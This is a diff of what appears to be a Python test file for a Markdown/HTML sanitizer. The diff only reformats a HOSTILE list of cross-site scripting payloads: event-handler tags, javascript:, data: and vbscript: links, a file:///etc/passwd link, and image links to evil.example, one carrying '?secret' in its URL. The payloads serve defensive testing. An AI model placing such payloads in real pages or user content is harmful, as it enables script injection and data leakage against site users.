@@ -22,17 +22,19 @@ HOSTILE = [
     "<video src='//evil.example/v' autoplay poster='//evil.example/p'></video><audio src='//evil.example/a'></audio>",
     "<details open ontoggle='window.ran=1'><summary>x</summary>y</details>",
     "<template><img src=x onerror=window.ran=1></template><noscript><img src=//evil.example/n></noscript>",
-    "<kbd><svg/onload=window.ran=1>//</kbd>", "<kbd><img/src=x/onerror=window.ran=1></kbd>",
+    "<kbd><svg/onload=window.ran=1>//</kbd>",
+    "<kbd><img/src=x/onerror=window.ran=1></kbd>",
     "<b onclick='window.ran=1' class=button style='color:red' id=prompt>x</b>",
     "[x](javascript:window.ran=1) [x](JaVaScRiPt:window.ran=1)",
     "[x](java\nscript:window.ran=1) [x](&#106;avascript:alert(1))",
     "[x](data:text/html,<script>window.ran=1</script>)",
     "[x](vbscript:x) [x](file:///etc/passwd) [x](blob:x) [x](//evil.example)",
-    "<javascript:window.ran=1> <data:text/html,x>", "[x]: javascript:window.ran=1\n\n[x] ![x]",
+    "<javascript:window.ran=1> <data:text/html,x>",
+    "[x]: javascript:window.ran=1\n\n[x] ![x]",
     "![x](https://evil.example/pixel.png?secret) ![x][y]\n\n[y]: http://evil.example/y.png",
     "![x](//evil.example/x) ![x](/v1/models) ![x](data:image/svg+xml,<svg onload=window.ran=1>)",
-    "![x](data:text/html;base64,PHNjcmlwdD4=) ![x\" onerror=\"window.ran=1](https://evil.example/a\"onerror=\"window.ran=1)",
-    "```\"><img src=x onerror=window.ran=1>\n<script>window.ran=1</script>\n```",
+    '![x](data:text/html;base64,PHNjcmlwdD4=) ![x" onerror="window.ran=1](https://evil.example/a"onerror="window.ran=1)',
+    '```"><img src=x onerror=window.ran=1>\n<script>window.ran=1</script>\n```',
     "`<img src=x onerror=window.ran=1>` $$<img src=x onerror=window.ran=1>$$ \\(<script>window.ran=1</script>\\)",
     "| <script>window.ran=1</script> | <img src=x onerror=window.ran=1> |\n|-|-|\n| <svg onload=window.ran=1> | x |",
     "# <img src=x onerror=window.ran=1>\n\n> <script>window.ran=1</script>\n\n- <svg/onload=window.ran=1>",
@@ -42,7 +44,7 @@ HOSTILE = [
     "<x-y onclick=window.ran=1>x</x-y> <p/onmouseover=window.ran=1>x</p> <br/onload=window.ran=1>",
     "&lt;script&gt;window.ran=1&lt;/script&gt; &#60;img src=x onerror=window.ran=1&#62;",
     "\u202e<script>\u2066 \u0000<img src=x onerror=window.ran=1>\ufeff",
-]  # fmt: skip
+]
 
 
 def nested(n: int, line: Callable[[int], str]) -> str:
